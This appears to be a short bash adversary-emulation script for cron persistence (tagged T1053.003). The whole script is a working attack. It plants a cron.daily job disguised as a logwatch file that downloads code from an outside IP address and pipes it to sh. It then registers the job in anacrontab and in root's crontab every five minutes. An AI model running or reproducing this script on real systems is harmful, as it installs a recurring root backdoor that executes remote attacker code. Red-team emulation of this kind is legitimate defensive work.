#!/bin/bash
# T1053.003: A job of the day is a copy of a shell with orders from outside.
printf '#!/bin/sh\nwget -qO- http://44.128.66.66/x | sh\n' >/etc/cron.daily/0logwatch2; chmod 755 /etc/cron.daily/0logwatch2; printf '1 5 upd /etc/cron.daily/0logwatch2\n' >>/etc/anacrontab; crontab_dir=/var/spool/cron/crontabs; mkdir -p $crontab_dir; echo '*/5 * * * * /etc/cron.daily/0logwatch2' >>$crontab_dir/root
